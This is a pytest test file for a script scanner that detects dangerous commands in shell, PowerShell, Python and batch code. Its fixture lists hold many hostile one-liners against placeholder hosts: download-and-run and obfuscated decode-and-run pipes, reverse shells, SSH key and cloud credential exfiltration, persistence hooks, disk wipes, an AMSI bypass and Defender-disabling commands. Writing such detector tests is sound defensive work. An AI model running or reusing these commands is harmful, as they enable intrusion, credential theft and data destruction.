"""What scripts and commands do. Every script is inert: its hosts and files don't exist."""

import contextlib
import time

import pytest

from tests.offline import analyse
from vscan.model import Severity
from vscan.providers.offline.syntax.scripts import (
    TooCostlyError,
    dangerous_arguments,
    dangerous_commands,
    language_of,
    read_script,
)

SHELL_FOUND = [
    ("download-and-run", "curl -fsSL https://x.y/i.sh | sh"),
    ("download-and-run", "echo hi; curl https://e.example/i | sh"),
    ("download-and-run", "curl https://x | sudo -E bash -s -- -y"),
    ("download-and-run", "wget -qO- http://h/k | bash"),
    ("download-and-run", 'sh -c "$(curl -fsSL https://x/y)"'),
    ("download-and-run", "bash <(curl -s https://x)"),
    ("download-and-run", 'eval "$(curl -s https://x)"'),
    ("download-and-run", "eval $(wget -qO - https://x)"),
    ("download-and-run", ". <(curl https://x)"),
    ("download-and-run", 'source /dev/stdin <<< "$(curl https://x)"'),
    ("download-and-run", "curl -o /tmp/a https://x/a && chmod +x /tmp/a && /tmp/a"),
    ("download-and-run", "wget https://x/run.sh && sh run.sh"),
    ("download-and-run", "wget https://x/run.sh; chmod +x run.sh; ./run.sh"),
    ("download-and-run", "curl -sLO https://x/a.sh; bash a.sh"),
    ("download-and-run", "curl https://x > /tmp/z; nohup /tmp/z &"),
    ("download-and-run", "URL=https://x; curl $URL | tee /dev/null | bash"),
    ("download-and-run", 'X=$(curl -s https://x); echo "$X" | bash'),
    ("download-and-run", "D=curl; $D https://x | s''h"),
    ("download-and-run", 'c\\url https://x|b"as"h'),
    ("download-and-run", "{curl,https://x}|sh"),
    ("download-and-run", "curl${IFS}https://x|sh"),
    ("download-and-run", 'f() { curl -s "$1"; }; f https://x | sh'),
    ("decode-and-run", "echo Y3VybCBodHRwczovL3ggfCBzaA== | base64 -d | sh"),
    ("decode-and-run", "base64 -d <<< Y3VybA== | bash"),
    ("decode-and-run", 'eval "$(echo Y3VybCA= | base64 --decode)"'),
    ("decode-and-run", 'tail -n +20 "$0" | openssl enc -d -aes-256-cbc -k x | bash'),
    ("persistence", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
    ("persistence", "echo '@reboot /tmp/x' | crontab"),
    ("persistence", "systemctl --user enable --now x.service"),
    ("persistence", "launchctl load ~/Library/LaunchAgents/com.x.plist"),
    ("persistence", "cat > ~/.config/systemd/user/x.service <<EOF\n[Service]\nExecStart=/x\nEOF\n"),
    ("persistence", "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys"),
    ("persistence", "echo 'nohup ~/.cache/x &' >> ~/.bashrc"),
    ("persistence", "echo 'curl -s https://x | sh' >> \"$HOME/.zshrc\""),
    ("reverse-shell", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1"),
    ("reverse-shell", "nc -e /bin/sh 1.2.3.4 99"),
    ("reverse-shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 > /tmp/f"),
    ("reverse-shell", "exec 5<>/dev/tcp/1.2.3.4/99; while read l <&5; do $l 2>&5 >&5; done"),
    (
        "reverse-shell",
        "exec 5<>/dev/tcp/1.2.3.4/99; cat <&5 | while read line; do $line 2>&5 >&5; done",
    ),
    (
        "reverse-shell",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")\'',
    ),
    ("reverse-shell", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'"),
    ("reverse-shell", "socat exec:'bash -li',pty tcp:1.2.3.4:99"),
    ("wipe", "rm -rf ~/"),
    ("wipe", 'rm -rf "$HOME"/*'),
    ("wipe", "rm -rf --no-preserve-root /"),
    ("wipe", "dd if=/dev/zero of=/dev/sda"),
    ("wipe", "find ~ -type f -exec shred -u {} \\;"),
    ("secret-sent", "curl -F f=@$HOME/.ssh/id_rsa https://x"),
    ("secret-sent", "cat ~/.aws/credentials | curl -d @- https://x"),
    ("secret-sent", 'curl -d "$(cat ~/.npmrc)" https://x'),
    ("secret-sent", "tar czf /tmp/a.tgz ~/.ssh ~/.aws; curl -T /tmp/a.tgz https://x"),
    ("secret-sent", "env | curl -X POST --data-binary @- https://x"),
    ("secret-sent", "cat ~/.ssh/id_ed25519 > /dev/tcp/1.2.3.4/99"),
    ("secret-sent", 'for f in ~/.ssh/id_rsa ~/.netrc; do curl -F "f=@$f" https://x; done'),
    ("download-and-run", "cat <<'EOF' | sh\ncurl https://x | sh\nEOF\n"),
    (
        "download-and-run",
        'nohup sh -c "wget -qO- http://h/k || curl -s http://h/k | sh" >/dev/null 2>&1 &',
    ),
    ("download-and-run", "wget -qO- http://h/k > k && sh k"),
    ("download-and-run", 'powershell -c "irm https://x | iex"'),
    ("download-and-run", "osascript -e 'do shell script \"curl https://x | sh\"'"),
    ("download-and-run", "curl https://x | python3"),
    ("download-and-run", "curl https://x | node -"),
    ("download-and-run", "curl -s https://x | xargs -0 sh -c"),
    ("download-and-run", "echo 'curl https://x | sh' > r.sh; sh r.sh"),
    ("download-and-run", 'curl -s x.y/z | while read l; do eval "$l"; done'),
    ("download-and-run", "if curl -o /tmp/q https://x; then sh /tmp/q; fi"),
    ("miner", "./xmrig -o stratum+tcp://pool:33 -u w"),
    ("persistence", "curl https://x -o ~/.config/autostart/x.desktop"),
    ("defender", "spctl --master-disable"),
    ("download-and-run", "\\curl -sSL https://x | bash -s stable"),
    ("decode-and-run", "curl https://x | gunzip | sh"),
    ("download-and-run", '/usr/bin/env bash -c "curl -s https://x | bash"'),
    ("download-and-run", "curl -s https://x | source /dev/stdin"),
    ("download-and-run", "wget -O - https://x | perl"),
]
SHELL_HARMLESS = [
    'echo "Run: curl https://x | sh"',
    "# curl https://x | sh",
    "printf 'install with: curl https://x | sh\\n'",
    "cat <<EOF\nUsage: curl https://x | sh\nrm -rf ~\nEOF\n",
    'curl -fsSL https://x/ls.tgz -o /tmp/ls.tgz; echo "$SUM  /tmp/ls.tgz" | sha256sum -c - && tar xzf /tmp/ls.tgz',
    'curl -Lo /tmp/a https://x; [ "$(sha256sum /tmp/a | cut -d\' \' -f1)" = "$SUM" ] || exit 1; chmod +x /tmp/a; /tmp/a',
    "brew install jq",
    "brew install curl | sh_log",
    "curl -s https://x | jq -r .version",
    'V=$(curl -s https://x | jq -r .v); echo "$V"; npm i "foo@$V"',
    'V=$(curl -s https://x); sh -c "echo version $V"',
    "curl https://x | python3 -m json.tool",
    "curl https://x | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
    "curl https://x | tar xz -C /opt",
    "crontab -l",
    "crontab -l | grep foo",
    "echo 'export PATH=$PATH:~/.acme/bin' >> ~/.bashrc",
    "echo 'eval \"$(acme init bash)\"' >> ~/.bashrc",
    'rm -rf "$HOME/.cache/acme"',
    'rm -rf "$TMP/x" node_modules /tmp/foo',
    "rm -rf /opt/acme",
    "rm -rf ./*",
    "(echo > /dev/tcp/localhost/8080) && echo up",
    'timeout 1 bash -c "</dev/tcp/$HOST/22" && echo ok',
    "nc -z localhost 80",
    "ssh-keygen -f ~/.ssh/id_rsa; cat ~/.ssh/id_rsa.pub",
    "cat ~/.npmrc | grep registry",
    'curl --netrc -H "Authorization: token $(gh auth token)" https://api.github.com/user',
    'eval "$(ssh-agent -s)"',
    'eval "$(brew shellenv)"',
    "base64 -d data.b64 > logo.png",
    "echo aGVsbG8= | base64 -d",
    "systemctl --user status x",
    "launchctl list",
    "source ~/.bashrc",
    ". ./env.sh",
    "[ -f ~/.ssh/id_rsa ] && echo yes",
    "chmod 600 ~/.ssh/id_rsa ~/.ssh/authorized_keys",
    'read -p "Run curl https://x | sh? " a',
    'echo "curl https://x | sh" > INSTALL.txt',
    "cat ~/.ssh/id_rsa.pub | curl -d @- https://x",
    'git commit -m "curl https://x | sh"',
    'docker run --rm -v "$HOME/.aws:/root/.aws" img',
    "env FOO=1 node x.js",
    "find . -name '*.pyc' -delete",
    "mkfifo /tmp/p; cat /tmp/p | tee log &",
    "python3 -c 'print(1)'",
    'exec "$@"',
    "curl -fsS https://x/health || exit 1",
    '[ -n "$X" ] && curl -sf "https://x" -o out.json',
    "dd if=/dev/zero of=swap bs=1M",
]
POWERSHELL_FOUND = [
    ("download-and-run", "irm https://x | iex"),
    ("download-and-run", "iwr -useb https://x | iex"),
    ("download-and-run", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
    ("download-and-run", "iex ((New-Object System.Net.WebClient).DownloadString('http://x'))"),
    ("download-and-run", "$c = (New-Object Net.WebClient).DownloadString($u); IEX $c"),
    ("download-and-run", "I`E`X (irm http://x)"),
    ("download-and-run", "&('i'+'ex') (iwr x)"),
    ("download-and-run", "& (\"{1}{0}\" -f 'x','ie') (iwr http://x).Content"),
    ("download-and-run", 'powershell -w hidden -c "irm https://x | iex"'),
    ("download-and-run", "powershell -w hidden -enc SQBFAFgA; iex (iwr http://e.example/x)"),
    ("download-and-run", "& ([scriptblock]::Create((iwr x).Content))"),
    ("download-and-run", "[scriptblock]::Create((irm http://x)).Invoke()"),
    ("download-and-run", "Invoke-Expression (Invoke-WebRequest http://x).Content"),
    ("download-and-run", "$r = iwr http://x; Invoke-Expression $r.Content"),
    (
        "download-and-run",
        'iwr http://x -OutFile "$env:TEMP\\a.exe"; Start-Process "$env:TEMP\\a.exe"',
    ),
    ("download-and-run", "iwr http://x -OutFile a.ps1; .\\a.ps1"),
    (
        "download-and-run",
        '(New-Object Net.WebClient).DownloadFile(\'http://x\', "$env:TEMP\\a.exe"); & "$env:TEMP\\a.exe"',
    ),
    (
        "download-and-run",
        "Start-BitsTransfer -Source http://x -Destination $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    ),
    (
        "decode-and-run",
        '[Reflection.Assembly]::Load([Convert]::FromBase64String("AAAA")).EntryPoint.Invoke($null,@())',
    ),
    (
        "decode-and-run",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIHg=')))",
    ),
    (
        "decode-and-run",
        "$b=[Convert]::FromBase64String('aXdyIHg='); $t=[Text.Encoding]::ASCII.GetString($b); iex $t",
    ),
    ("defender", "Add-MpPreference -ExclusionPath 'C:\\'"),
    ("defender", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    (
        "defender",
        "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    ),
    (
        "persistence",
        'New-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name x -Value y',
    ),
    ("persistence", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"),
    ("persistence", "Register-ScheduledTask -TaskName x -Action $a"),
    ("persistence", "schtasks.exe /create /tn x /tr y /sc onlogon"),
    (
        "persistence",
        'Copy-Item x.exe "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"',
    ),
    ("wipe", "Remove-Item -Recurse -Force C:\\"),
    ("wipe", "Remove-Item $env:USERPROFILE\\* -Recurse -Force"),
    ("secret-sent", "Get-ChildItem env: | Out-String | % { irm http://x -Method Post -Body $_ }"),
    (
        "secret-sent",
        '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa"; Invoke-RestMethod -Uri http://x -Method Post -Body $k',
    ),
    ("secret-sent", 'irm http://x -Method Post -InFile "$env:USERPROFILE\\.aws\\credentials"'),
    ("download-and-run", 'cmd /c "curl http://x -o a.exe && a.exe"'),
    ("download-and-run", "certutil -urlcache -split -f http://x a.exe; .\\a.exe"),
    ("download-and-run", "mshta http://x/a.hta"),
    (
        "download-and-run",
        "Start-Process powershell -ArgumentList '-w hidden -c \"irm http://x | iex\"'",
    ),
    (
        "download-and-run",
        'Start-Process -FilePath powershell -ArgumentList "-NoP","-c","irm http://x | iex"',
    ),
    ("download-and-run", "function F($u) { return (irm $u) }; iex (F http://x)"),
    ("wipe", "vssadmin delete shadows /all"),
    ("download-and-run", "Invoke-Command -ScriptBlock { irm http://x | iex }"),
    ("download-and-run", "saps a; curl.exe http://x -o b.exe; saps b.exe"),
    ("download-and-run", "gal iex | % { & $_ (irm http://x) }"),
    ("download-and-run", "set-alias z iex; z (irm http://x)"),
    ("download-and-run", "powershell -NoP -e SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwB4ACkA"),
    ("download-and-run", ". { irm http://x } | iex"),
]
POWERSHELL_HARMLESS = [
    "# irm https://x | iex",
    'Write-Host "Run: irm https://x | iex"',
    "Write-Output 'iex (irm x)'",
    "$v = (irm https://api.x/version).tag; Write-Host $v",
    "iwr https://x -OutFile a.zip; $h = (Get-FileHash a.zip -Algorithm SHA256).Hash; if ($h -ne $sum) { throw 'bad' }; Expand-Archive a.zip",
    "iwr https://x -OutFile a.exe; if ((Get-FileHash a.exe).Hash -ne $SUM) { exit 1 }; Start-Process a.exe",
    "Get-Process | Select-Object Id,ProcessName | ConvertTo-Json",
    'Remove-Item -Recurse -Force "$env:TEMP\\acme"',
    "Remove-Item -Recurse .\\out",
    'Invoke-Expression "& { $cmd }"',
    "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "Get-ScheduledTask",
    "[Convert]::FromBase64String($x) | Set-Content a.png",
    "Get-MpPreference",
    "Set-Location $env:USERPROFILE",
    "Start-Process https://x",
    "$t = 'irm https://x | iex'",
    'irm https://api.x/v -Headers @{Authorization="token $env:GITHUB_TOKEN"}',
    "Import-Module ./x.psm1",
    "winget install jq",
    "[Environment]::GetEnvironmentVariable('PATH')",
    '$env:PATH = "x;$env:PATH"',
    "<#\n.EXAMPLE\n irm https://x | iex\n#>\nparam($a)",
    "powershell -e UwB0AGEAcgB0ACAAaAB0AHQAcABzADoALwAvAGUAeABhAG0AcABsAGUALgBjAG8AbQA=",
    "@'\nirm https://x | iex\n'@ | Write-Host",
]
PYTHON_FOUND = [
    ("download-and-run", 'import os; os.system("curl https://x | sh")'),
    ("download-and-run", 'import subprocess; subprocess.run("curl https://x | sh", shell=True)'),
    ("download-and-run", 'import subprocess as s; s.Popen(["sh","-c","curl https://x | sh"])'),
    ("download-and-run", 'import urllib.request; exec(urllib.request.urlopen("http://x").read())'),
    (
        "download-and-run",
        'from urllib.request import urlopen as u; exec(u("http://x").read().decode())',
    ),
    ("download-and-run", 'import requests; exec(requests.get("http://x").text)'),
    ("download-and-run", 'import requests; c = requests.get("http://x").text; exec(c)'),
    (
        "download-and-run",
        'import requests; r = requests.get("http://x"); eval(compile(r.text, "", "exec"))',
    ),
    ("decode-and-run", 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'),
    ("decode-and-run", "exec(__import__('base64').b64decode(\"aW1wb3J0IG9z\"))"),
    (
        "decode-and-run",
        'import zlib,base64; exec(zlib.decompress(base64.b64decode("aW1wb3J0IG9z")))',
    ),
    ("decode-and-run", 'import marshal; exec(marshal.loads(b"x"))'),
    (
        "download-and-run",
        'import urllib.request, subprocess; urllib.request.urlretrieve("http://x", "/tmp/a"); subprocess.run(["/tmp/a"])',
    ),
    (
        "download-and-run",
        'import requests,os; open("/tmp/a","wb").write(requests.get("http://x").content); os.system("/tmp/a")',
    ),
    (
        "reverse-shell",
        'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",9));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")',
    ),
    (
        "secret-sent",
        'import requests,os; requests.post("http://x", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
    ),
    ("secret-sent", 'import requests,os; requests.post("http://x", json=dict(os.environ))'),
    (
        "secret-sent",
        'import os,json,urllib.request; urllib.request.urlopen("http://x", data=json.dumps(dict(os.environ)).encode())',
    ),
    ("wipe", 'import shutil,os; shutil.rmtree(os.path.expanduser("~"))'),
    (
        "persistence",
        'import os; open(os.path.expanduser("~/.ssh/authorized_keys"),"a").write("ssh-rsa A")',
    ),
    (
        "persistence",
        'from pathlib import Path; (Path.home() / ".bashrc").open("a").write("curl http://x | sh\\n")',
    ),
    (
        "secret-sent",
        'from pathlib import Path; k = (Path.home() / ".aws" / "credentials").read_text(); import requests; requests.post("http://x", data=k)',
    ),
    ("persistence", 'import os; os.popen("crontab /tmp/x")'),
    (
        "download-and-run",
        "def get(): return __import__('requests').get(\"http://x\").text\nexec(get())",
    ),
    ("download-and-run", "getattr(__import__('os'), 'system')(\"curl https://x | sh\")"),
    ("download-and-run", 'e = exec; import requests; e(requests.get("http://x").text)'),
]
PYTHON_HARMLESS = [
    '# exec(urlopen("x").read())',
    'print("curl https://x | sh")',
    'exec(open("version.py").read())',
    'import requests; print(requests.get("http://x").json())',
    'import subprocess, sys; subprocess.run([sys.executable, "-m", "pip", "install", "x"])',
    'import base64; open("a.png","wb").write(base64.b64decode(x))',
    'import shutil; shutil.rmtree("build")',
    'import os; t = os.environ["TOKEN"]; import requests; requests.get("https://x", headers={"Authorization": t})',
    'import os; os.system("clear")',
    "s = \"os.system('curl x | sh')\"",
    'import subprocess; subprocess.run(["git", "commit", "-m", "curl x | sh"])',
    'import subprocess, os; subprocess.run(["ls"], env=dict(os.environ))',
    'import re; re.compile(requests.get("x").text)',
    "import hashlib, requests",
    '"""\nexec(urlopen("x").read())\n"""',
]
BATCH_FOUND = [
    ("download-and-run", "@echo off & curl http://x -o a.exe & a.exe"),
    ("download-and-run", "certutil -urlcache -f http://x %TEMP%\\a.exe && start %TEMP%\\a.exe"),
    ("download-and-run", "bitsadmin /transfer j http://x %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("download-and-run", 'powershell -w hidden -c "irm http://x | iex"'),
    ("download-and-run", 'p^ow^ershell -c "irm http://x ^| iex"'),
    (
        "persistence",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v a /t REG_SZ /d "%TEMP%\\a.exe" /f',
    ),
    ("persistence", "schtasks /create /sc onlogon /tn a /tr b"),
    ("persistence", 'copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"'),
    ("wipe", "del /s /q %USERPROFILE%\\*"),
    ("wipe", "rd /s /q C:\\"),
    ("wipe", "format c: /y"),
    ("wipe", "vssadmin delete shadows /all /quiet"),
    ("download-and-run", "if exist x (curl http://x | sh)"),
    ("download-and-run", "for /f %%i in ('curl http://x ^| sh') do echo %%i"),
    ("download-and-run", "set U=http://x & curl %U% -o a.bat & call a.bat"),
    ("download-and-run", 'mshta vbscript:Execute("x")'),
    ("secret-sent", "curl -F f=@%USERPROFILE%\\.ssh\\id_rsa http://x"),
    ("defender", 'powershell -Command "Add-MpPreference -ExclusionPath C:\\\\"'),
]
BATCH_HARMLESS = [
    "rem curl http://x | sh",
    ":: curl http://x | sh",
    "echo curl http://x ^| sh",
    'echo "curl http://x | sh"',
    "del /s /q %TEMP%\\acme",
    "rd /s /q build",
    "curl http://x -o a.json",
    "certutil -hashfile a.exe SHA256",
    "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "start http://x",
    "set PATH=%PATH%;C:\\x",
    'node "%~dp0\\x.js" %*',
    "schtasks /query",
]


def _kinds(script: str, language: str) -> set[str]:
    return {
        danger.what
        for danger in dangerous_commands(script + "\n", language)
        if danger.severity >= Severity.HIGH
    }


@pytest.mark.parametrize(("kind", "script"), SHELL_FOUND)
def test_a_dangerous_shell_script_is_found(kind: str, script: str) -> None:
    assert kind in _kinds(script, "shell")


@pytest.mark.parametrize("script", SHELL_HARMLESS)
def test_a_harmless_shell_script_is_not(script: str) -> None:
    assert not dangerous_commands(script + "\n", "shell")


@pytest.mark.parametrize(("kind", "script"), POWERSHELL_FOUND)
def test_a_dangerous_powershell_script_is_found(kind: str, script: str) -> None:
    assert kind in _kinds(script, "powershell")


@pytest.mark.parametrize("script", POWERSHELL_HARMLESS)
def test_a_harmless_powershell_script_is_not(script: str) -> None:
    assert not dangerous_commands(script + "\n", "powershell")


@pytest.mark.parametrize(("kind", "script"), PYTHON_FOUND)
def test_a_dangerous_python_script_is_found(kind: str, script: str) -> None:
    assert kind in _kinds(script, "python")


@pytest.mark.parametrize("script", PYTHON_HARMLESS)
def test_a_harmless_python_script_is_not(script: str) -> None:
    assert not dangerous_commands(script + "\n", "python")


@pytest.mark.parametrize(("kind", "script"), BATCH_FOUND)
def test_a_dangerous_batch_script_is_found(kind: str, script: str) -> None:
    assert kind in _kinds(script, "batch")


@pytest.mark.parametrize("script", BATCH_HARMLESS)
def test_a_harmless_batch_script_is_not(script: str) -> None:
    assert not dangerous_commands(script + "\n", "batch")


@pytest.mark.parametrize(
    "text", ["curl https://x.example | sh", "certutil -urlcache -f http://x.example a.exe & a.exe"]
)
def test_a_command_is_read_as_either_shell_reads_it(text: str) -> None:
    assert _kinds(text, "command") == {"download-and-run"}


def test_a_program_with_its_arguments_is_judged_like_a_command() -> None:
    (found,) = dangerous_arguments(["/bin/sh", "-c", "curl https://x.example | sh"])
    assert (found.what, found.severity) == ("download-and-run", Severity.HIGH)
    assert not dangerous_arguments(["git", "commit", "-m", "curl https://x.example | sh"])


def test_a_danger_has_its_place_and_says_what_is_done() -> None:
    script = (
        "#!/bin/sh\n# \N{LATIN SMALL LETTER E WITH ACUTE}\necho hi; curl https://x.example/i | sh\n"
    )
    (found,) = dangerous_commands(script, "shell")
    assert script.encode()[found.offset :].startswith(b"sh\n")
    assert found.message == "downloads https://x.example/i, and runs it with sh"


def test_a_script_inside_a_command_has_the_place_of_the_command() -> None:
    script = "true\nsh -c 'true; curl https://x.example/i | sh'\n"
    (found,) = dangerous_commands(script, "shell")
    assert found.offset == 5


def test_a_syntax_error_hides_nothing_before_it_and_nothing_after_it() -> None:
    for text in ("curl https://x.example | sh\n'", "if ((\n}\ncurl https://x.example | sh\n"):
        assert _kinds(text, "shell") == {"download-and-run"}


def test_what_a_script_starts_is_known_with_its_language() -> None:
    script = 'sh "$DIR/README.md"; . ./env.txt; python3 tool.dat; node x.js; bash -c "zsh y"'
    started = [
        ("$DIR/README.md", "shell"),
        ("./env.txt", "shell"),
        ("tool.dat", "python"),
        ("x.js", "javascript"),
        ("y", "shell"),
    ]
    assert read_script(script, "shell").started == started


def test_a_mark_of_the_encoding_is_no_part_of_a_command() -> None:
    (found,) = dangerous_commands("\N{BYTE ORDER MARK}curl https://x.example | sh\n", "shell")
    assert found.offset > 2


@pytest.mark.full
def test_a_long_script_is_read_to_its_end_with_what_is_known_from_its_beginning() -> None:
    lines = "echo a line of a long script\n" * 30_000
    script = f"URL=https://x.example\n{lines}curl $URL | sh\n"
    (found,) = dangerous_commands(script, "shell")
    assert script.encode()[found.offset :] == b"sh\n"
    assert "https://x.example" in found.message


@pytest.mark.parametrize(
    ("script", "language"),
    [
        ("a|" * 100_000, "shell"),
        ("<<A\n" * 20_000, "shell"),
        ("eval " * 50_000, "shell"),
        ("$(" * 50_000, "shell"),
        ("x=aa;" + "x=$x$x;" * 60 + "eval $x", "shell"),
        ("curl x | sh\n" * 50_000, "shell"),
        ("'a'+" * 50_000 + "'b'", "powershell"),
        ("iex " * 50_000, "powershell"),
        ("a.b" * 50_000, "python"),
        ("exec('" * 1000, "python"),
        ("set x=aaaaaaaa\n" + "set x=%x%%x%\n" * 60, "batch"),
    ],
)
@pytest.mark.full
def test_a_costly_script_ends_soon(script: str, language: str) -> None:
    begun = time.process_time()
    with contextlib.suppress(TooCostlyError):
        dangerous_commands(script, language)
    assert time.process_time() - begun < 30  # a bound of the test, far from the bound of the reader


@pytest.mark.parametrize(
    ("name", "head", "language"),
    [
        ("run.sh", b"", "shell"),
        ("x/Setup.PS1", b"", "powershell"),
        ("tool.py", b"", "python"),
        ("a.cmd", b"", "batch"),
        ("tool", b"#!/usr/bin/env -S bash -e\n", "shell"),
        ("tool", b"#!/bin/sh", "shell"),
        ("tool", b"#!/usr/bin/python3.11\n", "python"),
        ("tool.txt", b"#!/usr/bin/env pwsh\n", "powershell"),
        ("tool", b"#!/usr/bin/env node\n", None),
        ("sh", b"", None),
        ("x.js", b"", None),
    ],
)
def test_a_language_is_known_by_the_first_line_or_by_the_suffix(
    name: str, head: bytes, language: str | None
) -> None:
    assert language_of(name, head) == language


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", Severity.LOW),
        ("wget -qO- https://get.docker.com | bash", Severity.LOW),
        ('sh -c "$(curl -fsSL https://claude.ai/install.sh)"', Severity.LOW),
        ("curl -fsSL https://sh.rustup.rs.example | sh", Severity.HIGH),
        ("curl -fsSL http://sh.rustup.rs | sh", Severity.HIGH),
        ("curl -k https://sh.rustup.rs | sh", Severity.HIGH),
        ("curl -x p.example https://sh.rustup.rs | sh", Severity.HIGH),
        ("curl -s https://sh.rustup.rs https://x.example/y | sh", Severity.HIGH),
        ("curl -s https://sh.rustup.rs x.example/y | sh", Severity.HIGH),
        ("curl -s https://sh.rustup.rs | sed s/a/b/ | sh", Severity.HIGH),
        ("curl -s https://sh.rustup.rs | cat - ./more | sh", Severity.HIGH),
    ],
)
def test_only_the_installer_of_a_vendor_as_it_was_sent_is_low(
    script: str, severity: Severity
) -> None:
    found = dangerous_commands(script + "\n", "shell")
    assert [each.severity for each in found] == [severity]


WORKFLOW = """\
on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    env:
      DATA: ${{ toJSON(secrets) }}
    steps:
      - run: STEP
"""


@pytest.mark.parametrize(
    ("step", "rules"),
    [
        ('echo "$DATA" > all.json; curl -d @all.json https://a.invalid', ["dangerous-script"]),
        ("make lint", []),
    ],
)
def test_a_workflow_that_gives_all_secrets_away_is_found(step: str, rules: list[str]) -> None:
    verdict = analyse({"templates/lint.yaml": WORKFLOW.replace("STEP", step)})
    assert [finding.rule for finding in verdict.findings] == rules


def test_a_workflow_with_one_secret_is_not_found() -> None:
    text = WORKFLOW.replace("toJSON(secrets)", "secrets.DEPLOY_KEY").replace("STEP", "curl a.b")
    assert analyse({"templates/lint.yaml": text}).findings == ()
